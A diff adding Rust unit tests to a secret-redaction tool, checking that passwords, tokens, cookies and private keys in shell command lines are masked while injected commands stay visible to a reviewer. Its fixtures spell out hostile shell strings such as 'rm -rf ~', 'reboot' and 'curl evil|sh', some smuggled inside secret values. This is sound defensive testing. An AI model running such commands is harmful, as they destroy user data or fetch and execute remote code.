@@ -243,6 +243,109 @@ fn lines_for_a_shell_and_bodies_are_looked_through() {
 }
 
 #[test]
+fn a_line_for_a_shell_shows_what_the_shell_would_run() {
+    for (command, shown) in [
+        (
+            &["sh", "-ce", "PASSWORD=x; rm -rf ~"][..],
+            "sh -ce PASSWORD=[redacted:password]; rm -rf ~",
+        ),
+        (&["bash", "-c", "-e", "TOKEN=x;reboot"], "bash -c -e TOKEN=[redacted:token];reboot"),
+        (&["sh", "-c", ": cookie: x; rm -rf ~"], "sh -c : cookie: [redacted:header]; rm -rf ~"),
+        (&["ssh", "h", "PASSWORD=x; rm -rf ~"], "ssh h PASSWORD=[redacted:password]; rm -rf ~"),
+        (&["ssh", "h", "PASSWORD=x\nrm -rf ~"], "ssh h PASSWORD=[redacted:password]\nrm -rf ~"),
+        (&["ssh", "h", "cookie: x\nrm"], "ssh h cookie: [redacted:header]\nrm"),
+        (
+            &["sh", "-c", "TOKEN=\"x$(curl evil|sh)\" ls"],
+            "sh -c TOKEN=\"[redacted:token]$(curl evil|sh)\" ls",
+        ),
+        (&["ssh", "h", "TOKEN=x`reboot`"], "ssh h TOKEN=[redacted:token]`reboot`"),
+        (&["ssh", "h", "TOKEN=`reboot`"], "ssh h TOKEN=`reboot`"),
+        (&["ssh", "h", "--token=x$(reboot)"], "ssh h --token=[redacted:token]$(reboot)"),
+        (&["sh", "-c", "x --token 'a`b`'"], "sh -c x --token '[redacted:token]`b`'"),
+        (&["sh", "-c", "x --token a$(b)"], "sh -c x --token [redacted:token]$(b)"),
+        (
+            &["sh", "-c", ": -----BEGIN PRIVATE KEY-----; evil"],
+            "sh -c : [redacted:private-key]; evil",
+        ),
+        (
+            &["sh", "-c", ": -----BEGIN PRIVATE KEY-----\nrm -rf ~\n: -----END PRIVATE KEY-----"],
+            "sh -c : [redacted:private-key]\nrm -rf ~\n: -----END PRIVATE KEY-----",
+        ),
+        (&["sh", "-c", "curl http://u:x;evil@h"], "sh -c curl http://u:x;evil@h"),
+        (
+            &["sh", "-c", "curl 'http://u:x;y@h' -H 'Cookie: a=b; c=d'"],
+            "sh -c curl 'http://u:[redacted:password]@h' -H 'Cookie: [redacted:header]'",
+        ),
+        // The quote behind the name ends what is quoted.
+        (&["sh", "-c", "\"PASSWORD=\"x; evil; \"y\""], {
+            "sh -c \"PASSWORD=\"[redacted:password]; evil; \"y\""
+        }),
+        (
+            &["sh", "-c", ": '{\"password\": \"x'; evil; : '\"}'"],
+            "sh -c : '{\"password\": \"[redacted:password]'; evil; : '\"}'",
+        ),
+        (
+            &["sh", "-c", "\\\" a\" --password \"; evil; : \""],
+            "sh -c \\\" a\" --password \"; evil; : \"",
+        ),
+    ] {
+        assert_eq!(argv(command), shown);
+    }
+    // What was left for the eyes of a person stays when it is written down.
+    let line = argv(&["sh", "-c", "TOKEN=\"x$(curl evil|sh)\" ls"]);
+    let json = serde_json::json!({ "reason": line }).to_string();
+    assert_eq!(Redactor::default().json(json.as_bytes()), None);
+}
+
+#[test]
+fn what_is_hidden_and_acts_on_a_shell_is_told() {
+    let redactor = Redactor::default();
+    let acting = |argv: &[&str]| redactor.argv(argv).map(|redacted| redacted.acting);
+    assert_eq!(acting(&["ssh", "h", "TOKEN=x;reboot"]), Some(vec![2]));
+    assert_eq!(acting(&["x", "--password", "a|b", "--token=a&b"]), Some(vec![2, 3]));
+    assert_eq!(acting(&["sh", "-c", "curl -H 'Cookie: a=b; c=d'"]), Some(vec![2]));
+    assert_eq!(acting(&["x", "--password", "hunter2 $HOME", "--token=ab"]), Some(vec![]));
+    assert_eq!(acting(&["sh", "-c", "PASSWORD=x; rm -rf ~"]), Some(vec![]));
+    redactor.declare([("odd".to_owned(), b"corr;ect".to_vec())]);
+    assert_eq!(acting(&["echo", "corr;ect"]), Some(vec![1]));
+}
+
+#[test]
+fn a_key_is_marked_as_far_as_it_goes() {
+    let lines = format!("{}\n{}\n{}==", chance(64), chance(64), chance(10));
+    for (before, after) in [
+        ("-----BEGIN PRIVATE KEY-----\n", "\n-----END PRIVATE KEY-----"),
+        (
+            "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,0A\n\n",
+            "",
+        ),
+        ("-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v2\n\n", "\n=abcd\n"),
+    ] {
+        let key = format!("{before}{lines}{after}");
+        for form in [
+            key.clone(),
+            key.replace('\n', "\r\n"),
+            key.replace('\n', "\\n"),
+            key.replace('\n', "\\\\n"),
+            key.replace('\n', "\n    "),
+            key.replace('\n', "\\n\" +\n \""),
+        ] {
+            let shown = text(&form);
+            assert!(shown.starts_with("[redacted:private-key]"), "{shown}");
+            assert!(!shown.contains("7aB3kZ9qLm2X"), "{shown}");
+            let shown = argv(&["x", "-e", &format!("SSH_PRIVATE_KEY={form}")]);
+            assert!(!shown.contains("7aB3kZ9qLm2X"), "{shown}");
+        }
+        let flat = key.replace('\n', " ");
+        if !before.contains(": ") {
+            assert!(!text(&flat).contains("7aB3kZ9qLm2X"), "{flat}");
+        }
+    }
+    let unended = format!("-----BEGIN PRIVATE KEY-----\n{lines}\nand more; ls");
+    assert_eq!(text(&unended), "[redacted:private-key]\nand more; ls");
+}
+
+#[test]
 fn what_is_marked_stays_as_it_is() {
     for (_, token) in tokens() {
         let once = text(&token);
